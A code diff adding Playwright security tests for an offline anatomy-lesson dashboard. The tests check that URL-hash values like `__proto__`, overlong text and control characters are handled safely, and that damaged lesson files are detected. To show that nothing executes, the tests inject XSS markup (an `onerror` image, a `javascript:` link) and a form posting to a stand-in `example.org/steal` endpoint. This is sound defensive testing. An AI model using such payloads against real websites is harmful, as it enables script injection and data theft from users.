@@ -10,11 +10,14 @@ import dataclasses
 import gzip
 import json
 import re
+import time
 from collections.abc import Iterator
 from pathlib import Path
+from urllib.parse import quote
 
 import numpy as np
 import pytest
+from playwright.sync_api import TimeoutError as PlaywrightTimeout
 
 from glutelib.app.dashboard import Dashboard
 from glutelib.drawing import build_figure
@@ -286,9 +289,124 @@ def test_a_lesson_built_with_a_broken_mesh_says_so_on_its_first_screen(browser, 
         o.open()
         note = o.page.inner_text(".t-message")
         assert "piriformis_l" in note and "left out" in note
+        assert "meshes/piriformis_l.ply" in note and str(mesh_copy) not in note  # no folder
         assert unseen(o.page) == []
         o.page.click(".t-next")  # and it steps
         o.page.wait_for_selector(".t-step-shown[data-step='sciatica_vs_piriformis/2']",
                                  state="attached")  # fmt: skip
     finally:
         o.close()
+
+
+def test_a_name_every_object_has_is_no_mode_walkthrough_or_quiz(offline):
+    """`constructor`, `__proto__`, `toString` are in every JavaScript object: the address's
+    names are looked up as the lesson's own (they once stopped it)."""
+    o = offline(viewport={"width": 1366, "height": 768})
+    page = o.page
+    o.open("#mode=constructor")
+    assert "There is no “constructor” mode in this lesson; showing Student" in page.inner_text(
+        ".t-message"
+    )
+    assert plot_fills_its_view(page) == []
+    for address, said in [
+        ("#condition=toString&mode=__proto__", "no walkthrough called “toString”"),
+        ("#condition=hasOwnProperty&step=2&mode=valueOf", "There is no “valueOf” mode"),
+        ("#quiz=__proto__&mode=student", "There is no quiz called"),
+    ]:
+        page.evaluate("(a) => { location.hash = a; }", address)
+        page.wait_for_selector(f".t-message:has-text('{said}'), .t-quiz-note:has-text('{said}')")
+    page.evaluate("() => { location.hash = '#condition=pregnancy&step=2&mode=client'; }")
+    page.wait_for_selector(".t-step-shown[data-step='pregnancy/2']", state="attached")
+
+
+def test_address_values_are_read_as_the_dashboard_reads_them_cut_and_printable(offline):
+    """A 3000-word value is cut where the dashboard cuts it (deeplink.MAX_LENGTH): the
+    message quotes a few words and the 3D view keeps its room; control characters are
+    dropped; markup is shown as text."""
+    o = offline(viewport={"width": 1366, "height": 768})
+    page = o.page
+    words = " ".join(f"word{n}" for n in range(3000))
+    o.open("#condition=" + quote(words) + "&mode=" + "x" * 3000)
+    message = page.inner_text(".t-message")
+    assert f"no walkthrough called “{words[:60]}”" in message
+    assert f"There is no “{'x' * 40}” mode" in message and len(message) < 600
+    page.wait_for_selector(".t-step-shown[data-step='low_back_sitting/1']", state="attached")
+    assert plot_fills_its_view(page) == [] and unseen(page) == []
+    page.evaluate("() => { location.hash = '#condition=pregnancy%00&step=3%1B&mode=client%00'; }")
+    page.wait_for_selector(".t-step-shown[data-step='pregnancy/3']", state="attached")
+    assert "mod-active" in page.get_attribute(".t-mode button:has-text('Client')", "class")
+    assert page.inner_text(".t-message") == ""
+    markup = '<img src="data:," onerror="window.__pwned = 1">'
+    page.evaluate("(m) => { location.hash = '#condition=' + encodeURIComponent(m); }", markup)
+    page.wait_for_selector(".t-message:has-text('<img src=')")
+    assert page.locator(".t-message img").count() == 0
+
+
+def test_only_the_lessons_own_scripts_run_and_no_form_posts_anywhere(offline):
+    """What markup that got into the page could do: no handler, script or link of its own
+    runs (so it can open no window and navigate nowhere: no policy Chromium honours limits
+    those), and a form posts nothing (form-action 'none'). The network stays untouched."""
+    o = offline(viewport={"width": 1366, "height": 768})
+    page = o.page
+    o.open("#condition=pregnancy&step=1&mode=student")
+    page.evaluate("""() => {
+        document.body.insertAdjacentHTML('beforeend',
+          '<img src="data:," onerror="window.__pwned = 1">' +
+          '<a id="x-link" href="javascript:window.__pwned = 2">x</a>' +
+          '<form id="x-form" method="post" action="https://example.org/steal">' +
+          '<input name="a" value="b"></form>');
+        const s = document.createElement('script');
+        s.textContent = 'window.__pwned = 3';
+        document.body.append(s);
+    }""")
+    page.evaluate("() => document.getElementById('x-link').click()")  # below the page's fold
+    page.evaluate("() => document.getElementById('x-form').submit()")
+    page.wait_for_timeout(1000)
+    assert page.evaluate("() => window.__pwned") is None
+    assert page.url.startswith("file://") and "#condition=pregnancy" in page.url
+    assert o.asked == []  # and close() checks it again
+
+
+def _damaged(lesson: Path) -> dict[str, bytes]:
+    """The lesson cut short inside each part, and with one character changed in each (a
+    base64 letter for another: gzip's checksum; a script's letter: its hash in the policy)."""
+    data = lesson.read_bytes()
+    starts = {
+        "data": data.index(b'id="glutelib-data"'),
+        "arrays": data.index(b'id="glutelib-arrays"'),
+    }
+    starts["plotly"] = data.index(b"<script>", starts["arrays"])
+    starts["player"] = data.rindex(b"<script>")
+    ends = [*list(starts.values())[1:], data.rindex(b"</script>")]
+    files = {}
+    for (part, start), end in zip(starts.items(), ends, strict=True):
+        middle = (start + end) // 2
+        files[f"cut in {part}"] = data[:middle]
+        changed = bytearray(data)
+        changed[middle] = ord("B") if data[middle] == ord("A") else ord("A")
+        files[f"changed in {part}"] = bytes(changed)
+    return files
+
+
+def test_a_file_cut_short_or_changed_says_it_is_damaged_within_seconds(browser, lesson, tmp_path):
+    o = Offline(browser, lesson, viewport={"width": 1024, "height": 768})
+    page = o.page
+    wrong = {}
+    for name, data in _damaged(lesson).items():
+        path = tmp_path / (name.replace(" ", "-") + ".html")
+        path.write_bytes(data)
+        start = time.monotonic()
+        page.goto(path.as_uri(), wait_until="commit")
+        try:
+            page.wait_for_selector(".t-message:has-text('This lesson file is damaged or "
+                                   "incomplete: download it again.')", timeout=5_000)  # fmt: skip
+        except PlaywrightTimeout:
+            wrong[name] = page.inner_text("body")[:200]
+            continue
+        took = time.monotonic() - start
+        text = page.inner_text(".t-message")
+        if took > 5 or "Opening" in text or "fetch" in text:
+            wrong[name] = f"{took:.1f} s: {text}"
+    o.errors.clear()  # a script cut short is a syntax error: expected, and said on the page
+    o.close()
+    assert wrong == {}
